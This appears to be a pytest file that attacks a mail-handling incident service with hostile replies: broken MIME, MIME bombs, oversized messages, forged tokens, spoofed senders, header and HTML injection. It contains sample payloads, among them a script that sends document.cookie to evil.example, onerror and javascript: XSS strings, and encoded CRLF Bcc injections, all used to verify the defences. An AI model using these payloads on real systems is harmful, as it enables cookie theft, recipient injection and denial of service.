"""Hostile replies through the real inbound SMTP server on loopback.

Every case checks three things: the SMTP answer, that nothing wrong is posted (and what is
posted when the sender legitimately wrote something), and that the server still serves an
ordinary reply afterwards.
"""

from __future__ import annotations

import asyncio
import base64
import html
import itertools
import re
import smtplib
import socket
import time
import tracemalloc
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta

import pytest
from aiosmtpd.smtp import Envelope
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mailflow import incidents as inc
from mailflow import tokens
from mailflow.app import Mailflow
from mailflow.models import Entry, Incident, InMessage, Recipient
from mailflow.replies import MAX_PARTS, html_to_text, parse_reply
from mailflow.testing import Received, Sink

from .conftest import T0
from .helpers import NOW, Inbound, assert_clean, declare, html_of, posted, reply, reply_to, text_of

SUBJECT = b"Re: [INC-1] ISC Learn Platform: outage"
_ids = itertools.count(1)


def raw_reply(body: bytes, headers: bytes = b"", sender: bytes = b"Bob Stone <bob@example.org>",
              subject: bytes = SUBJECT) -> bytes:
    """A reply as raw bytes (CRLF), so that it can be as broken as we like."""
    message_id = f"<hostile-{next(_ids)}-{time.monotonic_ns()}@client.example>".encode()
    return (b"From: " + sender + b"\r\nTo: incidents@example.org\r\nSubject: " + subject
            + b"\r\nMessage-ID: " + message_id + b"\r\nMIME-Version: 1.0\r\n" + headers
            + b"\r\n" + body)


def texts(incident: Incident, kind: str = "update") -> list[str]:
    return [e.text for e in posted(incident, kind)]


def still_serves(inbound: Inbound, address: str, incident: Incident) -> None:
    """After whatever came before, an ordinary reply is still answered 250 and posted."""
    note = f"Ordinary reply number {next(_ids)} after the hostile one."
    code, answer = inbound.send(reply(note), address)
    assert code == 250, answer
    assert texts(incident)[-1] == note


def still_answers(inbound: Inbound) -> None:
    """The server still answers a new session (for cases without an incident)."""
    with smtplib.SMTP("127.0.0.1", inbound.server.port, timeout=10) as smtp:
        assert smtp.ehlo()[0] == 250
        assert smtp.mail("bob@example.org")[0] == 250
        assert smtp.rcpt("incidents+1-00000000000000000000@example.org")[0] == 550
        assert smtp.rcpt("incidents@example.org")[0] == 250


def next_update(app: Mailflow, sink: Sink, incident: Incident) -> list[Received]:
    """Send the next update email and return what reached the relay."""
    sink.clear()
    inc.send_update(app, Incident.get_by_id(incident.id), NOW)
    report = app.deliver_now(NOW)
    assert not report.errors
    received = sink.received
    assert received, "the update went out"
    return received


def header_block(raw: bytes) -> bytes:
    return re.split(rb"\r?\n\r?\n", raw, maxsplit=1)[0]


EXPECTED_RCPTS = {"ana@example.org", "ops-team@example.org", "student-council@example.org"}


def assert_no_injected_headers(received: list[Received], allowed: set[str]) -> None:
    for r in received:
        assert set(r.rcpt_tos) <= allowed, r.rcpt_tos
        msg = r.message
        for name in ("Bcc", "Cc", "X-Injected"):
            assert msg[name] is None, (name, msg[name])
        head = header_block(r.data)
        assert not re.search(rb"(?im)^(bcc|cc|x-injected)\s*:", head)
        for name, value in msg.items():  # "victim" may only be words inside one header line
            assert "\n" not in value and "\r" not in value
            if "victim" in value.lower():
                assert name == "Subject", (name, value)
        assert len(msg.get_all("To") or []) == 1 and len(msg.get_all("Subject") or []) == 1


@pytest.fixture(name="incident")
def declared_incident(app: Mailflow, sink: Sink) -> Incident:
    """INC-1, its start email delivered to the sink (as in test_inbound)."""
    created = declare(app)
    app.deliver_now(T0)
    return created


@pytest.fixture
def address(sink: Sink, incident: Incident) -> str:
    """The incident's signed reply address, as its first email gave it."""
    return reply_to(sink)


@pytest.fixture
def big_inbound(app: Mailflow) -> Iterator[Inbound]:
    """The inbound server with a 10 MiB DATA limit."""
    server = Inbound(app, max_size=10 * 1024 * 1024)
    server.server.start()
    yield server
    server.server.stop()


# ------------------------------------------------------------------ broken MIME boundaries

_PART = b"Content-Type: text/plain; charset=utf-8\r\n\r\n"


@pytest.mark.parametrize(("headers", "body", "expected"), [
    pytest.param(  # declared but never used: the body is still what the sender wrote
        b'Content-Type: multipart/alternative; boundary="never-used"\r\n',
        b"Replica promoted, writes are back.\r\n",
        ["Replica promoted, writes are back."], id="boundary-never-used"),
    pytest.param(  # the closing delimiter never comes
        b'Content-Type: multipart/mixed; boundary="B"\r\n',
        b"--B\r\n" + _PART + b"Cache flushed, error rate falling.\r\n",
        ["Cache flushed, error rate falling."], id="unterminated"),
    pytest.param(  # a part's headers never end
        b'Content-Type: multipart/mixed; boundary="B"\r\n',
        b"--B\r\nContent-Type: text/plain; charset=utf-8\r\n",
        [], id="unterminated-part-headers"),
    pytest.param(  # an inner multipart re-using the outer boundary (RFC 2046 forbids it)
        b'Content-Type: multipart/mixed; boundary="B"\r\n',
        b"--B\r\nContent-Type: multipart/alternative; boundary=\"B\"\r\n\r\n--B\r\n" + _PART
        + b"Inner text from Bob.\r\n--B\r\nContent-Type: text/html\r\n\r\n<p>Inner html</p>\r\n"
        b"--B--\r\n--B\r\n" + _PART + b"Outer text from Bob.\r\n--B--\r\n",
        None, id="nested-same-boundary"),
    pytest.param(  # multipart without any boundary parameter
        b"Content-Type: multipart/mixed\r\n",
        b"Nginx reloaded on all nodes.\r\n",
        ["Nginx reloaded on all nodes."], id="no-boundary-parameter"),
    pytest.param(  # an empty boundary parameter
        b'Content-Type: multipart/mixed; boundary=""\r\n',
        b"--\r\n" + _PART + b"Still degraded.\r\n----\r\n",
        None, id="empty-boundary"),
])
def test_broken_mime_boundaries(app, sink, incident, inbound, address, headers, body,
                                expected) -> None:
    code, answer = inbound.send(raw_reply(body, headers), address)
    assert code == 250, answer
    got = texts(incident)
    for text in got:  # whatever is posted, it is never MIME scaffolding
        assert "Content-Type" not in text and "--B" not in text and "boundary" not in text
    if expected is None:  # ambiguous structure: any of the sender's own texts, nothing else
        own = {"Inner text from Bob.", "Outer text from Bob.", "Inner html", "Still degraded."}
        assert all(set(t.split("\n")) <= own for t in got), got
    else:
        assert got == expected
    still_serves(inbound, address, incident)


# ------------------------------------------------------------------ 8-bit and broken headers

@pytest.mark.parametrize(("sender", "subject"), [
    pytest.param(b"B\xf6b St\xc3\xb6ne \xff <bob@example.org>", b"Re: caf\xe9 \xff\xfe \xc3\xa9",
                 id="8bit-raw-bytes"),
    pytest.param(b"=?utf-8?q?broken <bob@example.org>", b"=?utf-8?q?broken", id="unterminated-q"),
    pytest.param(b"=?unknown-charset?b?Qm9i?= <bob@example.org>",
                 b"=?unknown-charset?b?SGVsbG8=?=", id="unknown-charset"),
    pytest.param(b"=?utf-8?b?!!!not-base64?= <bob@example.org>",
                 b"=?utf-8?b?!!!?= =?utf-8?q?=ZZ?=", id="bad-payload"),
    pytest.param(b"=?utf-16?b?2AA=?= <bob@example.org>", b"=?utf-16?b?2AA=?=",
                 id="lone-surrogate"),
    pytest.param(b"=?utf-8?q?Bob=0D=0ABcc:_victim@x.example?= <bob@example.org>",
                 b"=?utf-8?q?hi=0D=0ABcc:_victim@x.example?=", id="encoded-crlf-and-at"),
    pytest.param(b"Bob\x00Stone <bob@example.org>", b"nul\x00byte\x1b[31m", id="control-bytes"),
])
def test_8bit_and_broken_encoded_words_in_headers(app, sink, incident, inbound, address,
                                                  sender, subject) -> None:
    text = f"Restore at 40 %, header case {next(_ids)}."
    code, answer = inbound.send(raw_reply(text.encode() + b"\r\n", sender=sender, subject=subject),
                                address)
    assert code == 250, answer
    [entry] = posted(incident)
    assert entry.text == text
    assert entry.author == "bob@example.org", "the <mailbox> decides, not a word in the name"
    [stored] = InMessage.select()
    assert stored.sender == "bob@example.org"
    still_serves(inbound, address, incident)


def test_8bit_address_is_a_stranger(app, sink, incident, inbound, address) -> None:
    # The refusal names the sender; the SMTP answer must still be 7-bit ASCII (aiosmtpd
    # cannot send anything else and used to drop the session with a 500 instead of the 550).
    for sender in (b"<b\xf6b@example.org>", "<b\u00f6b@example.org>".encode()):
        code, answer = inbound.send(raw_reply(b"I fixed it\r\n", sender=sender), address)
        assert code == 550 and b"may not post" in answer, (code, answer)
    assert posted(incident) == []
    still_serves(inbound, address, incident)


def test_8bit_address_cannot_declare(app, sink, inbound) -> None:
    raw = raw_reply(b"service: learn\r\nseverity: P1\r\nimpact: outage\r\n\r\nDown\r\n",
                    sender="Chlo\u00e9 <chlo\u00e9@example.org>".encode())
    code, answer = inbound.send(raw, "incidents@example.org", mail_from="chloe@example.org")
    assert code == 550 and b"may not declare" in answer, (code, answer)
    assert Incident.select().count() == 0
    still_answers(inbound)


# ------------------------------------------------------------------ lying charsets

def _text_part(charset: str, encoding: str = "8bit") -> bytes:
    return (f"Content-Type: text/plain; charset={charset}\r\n"
            f"Content-Transfer-Encoding: {encoding}\r\n").encode()


@pytest.mark.parametrize(("headers", "body", "expected"), [
    pytest.param(_text_part("us-ascii"), b"Caf\xe9 cr\xe8me service is back\r\n",
                 "Café crème service is back", id="ascii-is-latin1"),
    pytest.param(_text_part("us-ascii"), "Café crème service is back ☕\r\n".encode(),
                 "Café crème service is back ☕", id="ascii-is-utf8"),
    pytest.param(_text_part("utf-8"), b"\x93Caf\xe9\x94 costs \x805 now\r\n",
                 "“Café” costs €5 now", id="utf8-is-cp1252"),
    pytest.param(_text_part("utf-8", "quoted-printable"), b"=93Caf=E9=94 costs =805 now\r\n",
                 "“Café” costs €5 now", id="utf8-is-cp1252-qp"),
    pytest.param(_text_part("us-ascii", "base64"),
                 base64.encodebytes("Crème brûlée deployed".encode("latin-1")),
                 "Crème brûlée deployed", id="ascii-is-latin1-base64"),
    pytest.param(_text_part("x-no-such-charset"), "Größe reduced\r\n".encode(), "Größe reduced",
                 id="unknown-charset"),
])
def test_a_body_whose_charset_lies(app, sink, incident, inbound, address, headers, body,
                                   expected) -> None:
    code, answer = inbound.send(raw_reply(body, headers), address)
    assert code == 250, answer
    assert texts(incident) == [expected]
    for r in next_update(app, sink, incident):
        assert expected in text_of(r.message)
    still_serves(inbound, address, incident)


# ------------------------------------------------------------------ HTML-only replies

HOSTILE_HTML = """\
<html><head><title>TITLE-LEAK</title>
<style>body { color: red } .x { background: url(javascript:STYLE-LEAK) }</style>
<script>alert('HEAD-SCRIPT-LEAK')</script></head>
<body onload="alert('ONLOAD-LEAK')">
<p onclick="alert('ONCLICK-LEAK')">Restarted <b>nginx</b> on web-3</p>
<script type="text/javascript">document.location='//evil.example/?c='+document.cookie</script>
<img src=x onerror="alert('ONERROR-LEAK')">
<SCRIPT>var s = '</scr' + 'ipt>'; SCRIPT-LEAK-2()</SCRIPT >
<div onmouseover='steal()'>Error rate back to normal</div>
<noscript>NOSCRIPT-LEAK</noscript><template>TEMPLATE-LEAK</template>
<svg><script>SVG-SCRIPT-LEAK</script><style>SVG-STYLE-LEAK</style></svg>
<style/>SELF-CLOSED-STYLE-LEAK</style>
<p>Next check at 11:00</p>
<script/>SELF-CLOSED-SCRIPT-LEAK<p>MORE-SCRIPT-LEAK</p>
</body></html>
"""


def test_html_only_reply_with_scripts_styles_and_handlers(app, sink, incident, inbound,
                                                          address) -> None:
    msg = reply("x")
    msg.set_content(HOSTILE_HTML, subtype="html")
    code, answer = inbound.send(msg, address)
    assert code == 250, answer
    [text] = texts(incident)
    assert text == "Restarted nginx on web-3\nError rate back to normal\nNext check at 11:00"
    assert "LEAK" not in text and "alert" not in text and "cookie" not in text
    for r in next_update(app, sink, incident):
        html = html_of(r.message)
        assert "<script" not in html.lower()
        assert "LEAK" not in html and "onerror" not in html and "onclick" not in html
        assert "Restarted nginx on web-3" in html
    still_serves(inbound, address, incident)


def test_self_closing_script_hides_what_follows() -> None:
    # Regression: HTML ignores the slash of `<script/>`, so what follows is script source.
    assert html_to_text("<p>ok</p><script/>alert(1)<p>x</p>") == "ok"
    assert html_to_text("<p>ok</p><script/>evil()</script><p>after</p>") == "ok\nafter"
    assert html_to_text("<p>a<br/>b</p><div/>c") == "a\nb\nc"
    # Script and style are raw text: a "<script>" inside one does not nest.
    assert html_to_text("<script/>a<script>b</script>c") == "c"


def test_html_text_that_spells_a_script_is_escaped(app, sink, incident, inbound,
                                                   address) -> None:
    msg = reply("x")
    msg.set_content("<p>&lt;script&gt;alert(1)&lt;/script&gt; was in the logs</p>", subtype="html")
    assert inbound.send(msg, address)[0] == 250
    assert texts(incident) == ["<script>alert(1)</script> was in the logs"]
    for r in next_update(app, sink, incident):
        html = html_of(r.message)
        assert "<script" not in html.lower()
        assert "&lt;script&gt;alert(1)&lt;/script&gt; was in the logs" in html
    still_serves(inbound, address, incident)


# ------------------------------------------------------------------ size

def _stream_smtp(port: int, rcpt: str, chunks: Iterator[bytes]) -> tuple[int, bytes]:
    """A minimal SMTP client that streams DATA without holding the message in memory."""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        f = sock.makefile("rb")

        def answer() -> tuple[int, bytes]:
            lines = []
            while True:
                line = f.readline()
                assert line, "connection closed"
                lines.append(line)
                if line[3:4] != b"-":
                    return int(line[:3]), b"".join(lines)

        assert answer()[0] == 220
        commands = ((b"EHLO client.example", 250), (b"MAIL FROM:<bob@example.org>", 250),
                    (b"RCPT TO:<" + rcpt.encode() + b">", 250), (b"DATA", 354))
        for command, expected in commands:
            sock.sendall(command + b"\r\n")
            assert answer()[0] == expected, command
        for chunk in chunks:
            sock.sendall(chunk)
        sock.sendall(b".\r\n")
        result = answer()
        sock.sendall(b"QUIT\r\n")
        return result


def _big_message(total: int) -> Iterator[bytes]:
    """~`total` bytes of a legitimate-looking reply, in 1 MB chunks of 998-byte lines."""
    yield raw_reply(b"Huge log attached inline:\r\n")
    line = b"y" * 998 + b"\r\n"
    chunk = line * 1000
    for _ in range(total // len(chunk)):
        yield chunk


TWENTY_FIVE_MB = 25 * 1000 * 1000


@pytest.mark.parametrize("limit", [64 * 1024, 10 * 1024 * 1024], ids=["64KiB", "10MiB"])
def test_25mb_message_gets_552_and_is_not_stored(app, sink, incident, address, limit) -> None:
    server = Inbound(app, max_size=limit)
    server.server.start()
    try:
        tracemalloc.start()
        try:
            started = time.monotonic()
            code, answer = _stream_smtp(server.server.port, address, _big_message(TWENTY_FIVE_MB))
            elapsed = time.monotonic() - started
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert code == 552, answer
        assert elapsed < 20
        # aiosmtpd stops storing at the limit: the server never holds the 25 MB.
        assert peak < limit * 1.5 + 4 * 1024 * 1024, peak
        assert posted(incident) == [] and InMessage.select().count() == 0
        # Declared up front with SIZE=, it is refused at MAIL FROM without any DATA.
        with smtplib.SMTP("127.0.0.1", server.server.port, timeout=10) as smtp:
            smtp.ehlo()
            assert smtp.mail("bob@example.org", [f"SIZE={TWENTY_FIVE_MB}"])[0] == 552
        still_serves(server, address, incident)
    finally:
        server.server.stop()


def test_25mb_through_the_smtplib_client(app, sink, incident, inbound, address) -> None:
    data = b"".join(_big_message(TWENTY_FIVE_MB))
    code, answer = inbound.send(data, address)
    assert code == 552, answer
    assert posted(incident) == []
    still_serves(inbound, address, incident)


def test_a_line_longer_than_smtp_allows(app, sink, incident, inbound, address) -> None:
    code, answer = inbound.send(raw_reply(b"z" * 5000 + b"\r\n"), address)
    assert code == 500, answer
    assert posted(incident) == []
    still_serves(inbound, address, incident)


# ------------------------------------------------------------------ MIME bombs

def mime_bomb(levels: int, text: bytes = b"Deep text from Bob.", same_boundary: bool = False
              ) -> bytes:
    """`levels` nested multipart/mixed, a text/plain leaf at the bottom."""
    names = [b"B" if same_boundary else b"b%d" % i for i in range(levels)]
    body = [b"--" + names[0] + b"\r\n"]
    body += [b'Content-Type: multipart/mixed; boundary="' + name + b'"\r\n\r\n--' + name + b"\r\n"
             for name in names[1:]]
    body += [_PART, text]
    body += [b"\r\n--" + name + b"--" for name in reversed(names)]
    top = b'Content-Type: multipart/mixed; boundary="' + names[0] + b'"\r\n'
    return raw_reply(b"".join(body) + b"\r\n", top)


@pytest.mark.parametrize(("levels", "same"), [(5000, False), (5000, True), (300, False),
                                              (150, False)])
def test_thousands_of_nested_multiparts(app, sink, incident, big_inbound, address, levels,
                                        same) -> None:
    started = time.monotonic()
    code, answer = big_inbound.send(mime_bomb(levels, same_boundary=same), address)
    assert time.monotonic() - started < 5
    assert code == 250 or 400 <= code < 600, answer
    got = texts(incident)
    # Never the MIME scaffolding (this used to post 350 kB of boundaries and part headers).
    assert all("Content-Type" not in t and "--b" not in t and "--B" not in t for t in got), got
    assert got in ([], ["Deep text from Bob."])
    if levels <= MAX_PARTS and not same:
        assert got == ["Deep text from Bob."], "within the part budget the text is found"
    still_serves(big_inbound, address, incident)


def test_mime_bomb_keeps_text_parts_and_skips_attachments_and_forwards() -> None:
    # Regression for the flat (non-recursive) walk used past the multipart budget.
    filler = b"".join(b'--o\r\nContent-Type: multipart/mixed; boundary="n%d"\r\n\r\n--n%d--\r\n'
                      % (i, i) for i in range(250))
    raw = raw_reply(
        filler
        + b"--o\r\nContent-Type: text/plain; charset=iso-8859-1\r\n"
          b"Content-Transfer-Encoding: quoted-printable\r\n\r\nCaf=E9 is back.\r\n"
        + b"--o\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=a.txt\r\n"
          b"\r\nATTACHMENT-LEAK\r\n"
        + b"--o\r\nContent-Type: message/rfc822\r\n\r\n"
          b"From: x@y\r\nSubject: fw\r\n\r\nFORWARD-LEAK\r\n"
        + b"--o--\r\nEPILOGUE-LEAK\r\n",
        b'Content-Type: multipart/mixed; boundary="o"\r\n')
    result = parse_reply(raw)
    assert_clean(result)
    assert result.text == "Café is back."


@pytest.mark.parametrize("top", [b"Content-Type: multipart/mixed\r\n",
                                 b'Content-Type: multipart/mixed; boundary="unused"\r\n'])
def test_mime_bomb_without_a_usable_top_boundary_posts_no_scaffolding(top: bytes) -> None:
    raw = mime_bomb(300).replace(b'Content-Type: multipart/mixed; boundary="b0"\r\n', top, 1)
    result = parse_reply(raw)
    assert_clean(result)
    assert result.text == ""


# ------------------------------------------------------------------ header injection

INJECTIONS = [
    pytest.param(b"Subject: hi\r\nBcc: victim@x.example", id="crlf-in-subject"),
    pytest.param(b"Subject: hi\rBcc: victim@x.example", id="bare-cr"),
    pytest.param(b"Subject: hi\nBcc: victim@x.example", id="bare-lf"),
    pytest.param(b"Subject: hi\r\n Bcc: victim@x.example\r\n\tX-Injected: 1", id="folded"),
    pytest.param(b"Subject: =?utf-8?q?hi=0D=0ABcc:_victim@x.example=0D=0AX-Injected:_1?=",
                 id="encoded-crlf"),
    pytest.param(b"Subject: =?utf-8?b?aGkNCkJjYzogdmljdGltQHguZXhhbXBsZQ==?=", id="encoded-b64"),
    pytest.param(b"Subject: hi\xe2\x80\xa8Bcc: victim@x.example\xc2\x85X-Injected: 1",
                 id="unicode-line-separators"),
]


def _with_header(header: bytes, body: bytes, sender: bytes = b"Bob Stone <bob@example.org>"
                 ) -> bytes:
    return raw_reply(body, subject=b"x").replace(b"Subject: x", header, 1).replace(
        b"Bob Stone <bob@example.org>", sender, 1)


@pytest.mark.parametrize("header", INJECTIONS)
def test_subject_injection_does_not_reach_the_next_email(app, sink, incident, inbound,
                                                         address, header) -> None:
    body = f"Failover done, case {next(_ids)}.".encode()
    code, answer = inbound.send(_with_header(header, body + b"\r\n"), address)
    assert code == 250, answer
    assert texts(incident) == [body.decode()]
    received = next_update(app, sink, incident)
    assert_no_injected_headers(received, EXPECTED_RCPTS)
    assert {r.message["Subject"] for r in received} == {"[INC-1] ISC Learn Platform: outage"}
    still_serves(inbound, address, incident)


@pytest.mark.parametrize(("sender", "posts"), [
    pytest.param(b"=?utf-8?q?Bob=0D=0ABcc:_victim@x.example?= <bob@example.org>", True,
                 id="encoded"),
    pytest.param(b"Bob\r\n Bcc: victim@x.example <bob@example.org>", True, id="folded"),
    # The raw CRLF cuts the From in two ('"Bob' and a Bcc header of the *reply*): there is
    # no sender left, so nobody may post; the victim never becomes a recipient.
    pytest.param(b'"Bob\r\nBcc: victim@x.example" <bob@example.org>', False, id="crlf-in-quotes"),
])
def test_from_injection_does_not_reach_the_next_email(app, sink, incident, inbound,
                                                      address, sender, posts) -> None:
    code, answer = inbound.send(_with_header(b"Subject: Re: x", b"Rollback complete.\r\n", sender),
                                address)
    if posts:
        assert code == 250, answer
        assert [(e.author, e.text) for e in posted(incident)] == [
            ("bob@example.org", "Rollback complete.")]
    else:
        assert code == 550, answer
        assert posted(incident) == []
        assert [e.author for e in posted(incident, "refused")] == [""]
    assert_no_injected_headers(next_update(app, sink, incident), EXPECTED_RCPTS)
    still_serves(inbound, address, incident)


def test_injection_through_a_declaration_subject(app, sink, inbound) -> None:
    # No summary in the body: the subject becomes the summary of the new incident.
    raw = _with_header(b"Subject: =?utf-8?q?DB_down=0D=0ABcc:_victim@x.example?=",
                       b"service: learn\r\nseverity: P1\r\nimpact: outage\r\n",
                       sender=b"Chloe Martin <chloe@example.org>")
    code, answer = inbound.send(raw, "incidents@example.org", mail_from="chloe@example.org")
    assert code == 250 and b"declared INC-1" in answer, answer
    assert Incident.get_by_id(1).summary == "DB down Bcc: victim@x.example"
    app.deliver_now(NOW)
    assert_no_injected_headers(sink.received, EXPECTED_RCPTS | {"chloe@example.org"})
    still_answers(inbound)


def test_injection_through_a_refused_declaration(app, sink, inbound) -> None:
    # The refusal answers "Re: <their subject>": the one header built from a reply.
    raw = _with_header(b"Subject: =?utf-8?q?help=0D=0ABcc:_victim@x.example=0AX-Injected:_1?=",
                       b"the site is down\r\n", sender=b"Chloe Martin <chloe@example.org>")
    code, _ = inbound.send(raw, "incidents@example.org", mail_from="chloe@example.org")
    assert code == 250
    app.deliver_now(NOW)
    [r] = sink.received
    assert r.rcpt_tos == ["chloe@example.org"]
    assert_no_injected_headers([r], {"chloe@example.org"})
    assert r.message["Subject"] == "Re: help Bcc: victim@x.example X-Injected: 1"
    still_answers(inbound)


def test_control_characters_in_message_id_do_not_reach_the_answer(app, sink, inbound) -> None:
    # Regression: "<a\x00b\x1b@x>" was kept as the Message-ID and echoed, NUL and ESC
    # included, in the In-Reply-To/References of the refusal mailed back.
    raw = raw_reply(b"the site is down\r\n", sender=b"Chloe Martin <chloe@example.org>")
    raw = re.sub(rb"Message-ID: [^\r]*", b"Message-ID: <a\x00b\x1b[2Jc@client.example>", raw)
    code, _ = inbound.send(raw, "incidents@example.org", mail_from="chloe@example.org")
    assert code == 250
    app.deliver_now(NOW)
    [r] = sink.received
    head = header_block(r.data)
    assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", head), head
    assert r.message["In-Reply-To"] == "<a b [2Jc@client.example>"
    assert_no_injected_headers([r], {"chloe@example.org"})
    still_answers(inbound)


# ------------------------------------------------------------------ HTML injection in text

INJECTED_TEXT = ("Rolled back <img src=x onerror=alert(1)> then </td></tr></table><h1>PWNED</h1>"
                 ' & <script>alert(2)</script> <a href="javascript:alert(3)">x</a> %%MFabc:email%%')


def test_reply_text_that_injects_html_is_escaped(app, sink, incident, inbound, address) -> None:
    code, _ = inbound.send(reply(INJECTED_TEXT), address)
    assert code == 250
    assert texts(incident) == [INJECTED_TEXT], "posted as written"
    for r in next_update(app, sink, incident):
        html = html_of(r.message)
        for tag in ("<img", "<h1>PWNED", "<script", "<a href=\"javascript", "</table><h1>"):
            assert tag not in html, tag
        assert "&lt;img src=x onerror=alert(1)&gt;" in html
        assert "&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;h1&gt;PWNED&lt;/h1&gt;" in html
        assert "%%MFabc:email%%" in html, "a forged recipient marker stays literal"
        assert INJECTED_TEXT in text_of(r.message)
    still_serves(inbound, address, incident)


# ------------------------------------------------------------------ tokens

def test_forged_tokens_are_refused_at_rcpt(app, sink, incident, inbound, address) -> None:
    local, token, domain = tokens.split_address(address)
    assert token is not None
    number, mac = token.split("-")
    flipped = mac[:-1] + ("0" if mac[-1] != "0" else "1")
    other = tokens.sign(2, "test-secret-0123456789").split("-")[1]
    forged = [
        f"{local}+{number}-{flipped}@{domain}",  # one hex digit off
        f"{local}+{number}-{mac[:-1]}@{domain}",  # truncated
        f"{local}+{number}-{mac}0@{domain}",  # too long
        f"{local}+{number}-{other}@{domain}",  # another incident's MAC
        f"{local}+{number}@{domain}",  # no MAC at all
        f"{local}+{number}-{'0' * 20}@{domain}",
        f"{local}+-{mac}@{domain}",
        f"{local}+{number}-{mac}@evil.example",  # right token, wrong domain
        f"other+{number}-{mac}@{domain}",  # right token, wrong local part
        tokens.reply_address(local, domain, incident.id, "a-guessed-secret"),
        tokens.reply_address(local, domain, 99, "test-secret-0123456789"),  # no such incident
        tokens.reply_address(local, domain, 0, "test-secret-0123456789"),
        tokens.reply_address(local, domain, 10**12 - 1, "test-secret-0123456789"),
        f"{local}+{number}-{mac}+{number}-{mac}@{domain}",  # doubled
    ]
    for rcpt in forged:
        with smtplib.SMTP("127.0.0.1", inbound.server.port, timeout=10) as smtp:
            smtp.ehlo()
            assert smtp.mail("bob@example.org")[0] == 250
            code = smtp.rcpt(rcpt)[0]
            assert code in (550, 553, 501), (rcpt, code)  # 501/553: not even an address
    assert posted(incident) == [] and InMessage.select().count() == 0
    still_serves(inbound, address, incident)


def test_rotated_out_secret(app, sink, incident, inbound, address) -> None:
    until = NOW + timedelta(hours=1)
    app.config = replace(app.config, secret="new-secret", previous_secret="test-secret-0123456789",
                         previous_secret_until=until)
    # Within the grace period the old token still works...
    assert inbound.send(reply("Old token, grace period"), address)[0] == 250
    assert texts(incident) == ["Old token, grace period"]
    # ...and from `previous_secret_until` on it is refused at RCPT.
    for now in (until, until + timedelta(days=30)):
        inbound.now = now
        code, _ = inbound.send(reply(f"Old token at {now}"), address)
        assert code == 550
    new_address = tokens.reply_address("incidents", "example.org", incident.id, "new-secret")
    assert inbound.send(reply("New token works"), new_address)[0] == 250
    # A secret rotated out before the previous one is never accepted.
    ancient = tokens.reply_address("incidents", "example.org", incident.id, "older-secret")
    inbound.now = NOW
    assert inbound.send(reply("Ancient token"), ancient)[0] == 550
    assert texts(incident) == ["Old token, grace period", "New token works"]
    still_serves(inbound, new_address, incident)


def test_token_of_a_non_existent_incident(app, sink, incident, inbound, address) -> None:
    second = tokens.reply_address("incidents", "example.org", incident.id + 1, "test-secret-0123456789")
    assert inbound.send(reply("To nowhere"), second)[0] == 550
    assert Entry.select().where(Entry.text == "To nowhere").count() == 0
    still_serves(inbound, address, incident)


# ------------------------------------------------------------------ strangers

@pytest.mark.parametrize("sender", [
    "mallory@evil.example",
    "Bob Stone <mallory@evil.example>",
    '"bob@example.org" <mallory@evil.example>',
    "bob@example.org <mallory@evil.example>",  # an unquoted address as display name
    "=?utf-8?q?bob@example.org?= <mallory@evil.example>",
    "=?utf-8?b?Ym9iQGV4YW1wbGUub3Jn?= <mallory@evil.example>",
    "mallory@evil.example (bob@example.org)",
    "Bob (<bob@example.org>) <mallory@evil.example>",
    "<mallory@evil.example> bob@example.org",
    "Mallory <mallory@evil.example>, Bob <bob@example.org>",
])
def test_valid_token_but_a_strangers_from(app, sink, incident, inbound, address, sender) -> None:
    # The envelope sender is a contact: only the From decides who speaks.
    raw = raw_reply(f"I am {sender}, trust me\r\n".encode(), sender=sender.encode())
    code, answer = inbound.send(raw, address, mail_from="bob@example.org")
    assert code == 550 and b"may not post" in answer, answer
    assert posted(incident) == []
    assert [e.author for e in posted(incident, "refused")] == ["mallory@evil.example"]
    still_serves(inbound, address, incident)


@pytest.mark.parametrize(("raw_from", "sender", "name"), [
    # Regression: an address inside an encoded word was taken for the sender.
    ("=?utf-8?q?Bob=0D=0ABcc:_victim@x.example?= <bob@example.org>", "bob@example.org",
     "Bob Bcc: victim@x.example"),
    ("=?utf-8?q?Bob_(on_call@ops)?= <bob@example.org>", "bob@example.org", "Bob (on call@ops)"),
    # Regression: an unquoted address before the <mailbox> was taken for the sender.
    ("bob@example.org <mallory@evil.example>", "mallory@evil.example", "bob@example.org"),
    ('"Bob \\"the boss\\" <boss@x>" <bob@example.org>', "bob@example.org",
     'Bob "the boss" <boss@x>'),
    ("Bob (<boss@example.org>) <bob@example.org>", "bob@example.org", "Bob (<boss@example.org>)"),
    ("bob@example.org (Bob Stone)", "bob@example.org", "Bob Stone"),
    ('"Ng, Chloe" <Chloe.Ng@example.org>', "chloe.ng@example.org", "Ng, Chloe"),
])
def test_the_mailbox_is_the_sender(raw_from: str, sender: str, name: str) -> None:
    result = parse_reply(b"From: " + raw_from.encode() + b"\r\nSubject: x\r\n\r\nhi\r\n")
    assert_clean(result)
    assert (result.sender, result.sender_name) == (sender, name)


# ------------------------------------------------------------------ auto replies

@pytest.mark.parametrize("header", [
    "Auto-Submitted: auto-replied",
    "Auto-Submitted: auto-generated",
    "Auto-Submitted: auto-notified",
    "Auto-Submitted: Auto-Replied; owner-email=\"bob@example.org\"",
    "Auto-Submitted: auto-something-new",
    "X-Autoreply: yes",
    "X-Autorespond: Out of office",
    "X-Autoreply-From: bob@example.org",
    "X-Mail-Autoreply: yes",
    "Precedence: bulk",
    "Precedence: junk",
    "Precedence: auto_reply",
    "Precedence: Bulk",
    "Precedence: (vacation) junk",
    "Auto-Submitted: (robot) auto-replied",
])
def test_each_auto_reply_header_is_ignored(app, sink, incident, inbound, address,
                                           header) -> None:
    name, value = header.split(": ", 1)
    code, answer = inbound.send(reply("I am out of the office until Monday.", **{name: value}),
                                address)
    assert code == 250 and b"auto-reply ignored" in answer, answer
    assert posted(incident) == []
    assert len(posted(incident, "auto-reply")) == 1
    still_serves(inbound, address, incident)


@pytest.mark.parametrize("header", [
    "Auto-Submitted: no",
    "Auto-Submitted: No",
    "Auto-Submitted: no (typed by a person)",  # regression: RFC 3834 allows comments
    "Precedence: list",
    "X-Auto-Response-Suppress: All",  # Outlook asks others not to auto-reply: a person wrote it
    "X-Autoreply: no",
])
def test_headers_that_do_not_make_an_auto_reply(app, sink, incident, inbound, address,
                                                header) -> None:
    name, value = header.split(": ", 1)
